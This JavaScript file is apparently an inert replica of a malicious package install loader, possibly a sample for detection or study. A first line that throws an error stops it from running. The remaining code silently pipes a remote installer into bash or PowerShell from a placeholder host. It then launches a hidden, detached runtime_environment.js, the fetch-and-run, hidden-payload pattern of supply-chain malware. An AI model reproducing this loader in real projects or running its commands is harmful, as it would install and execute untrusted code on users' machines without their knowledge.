throw new Error("inert replica");
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execSync, spawn } = require("child_process");
function findRunner() {
  try {
    return execSync("command -v bun || which bun", { encoding: "utf8" }).trim();
  } catch (error) {
    return null;
  }
}
async function downloadAndSetupRunner() {
  const command = process.platform === "win32" ? 'powershell -c "irm https://runner.replica.invalid/install.ps1|iex"' : "curl -fsSL https://runner.replica.invalid/install | bash";
  execSync(command, { stdio: "ignore" });
  return path.join(os.homedir(), ".runner", "bin", "bun");
}
(async () => {
  const runner = findRunner() || (await downloadAndSetupRunner());
  const script = path.join(__dirname, "runtime_environment.js");
  if (fs.existsSync(script)) spawn(runner, [script], { detached: true, stdio: "ignore" }).unref();
})();
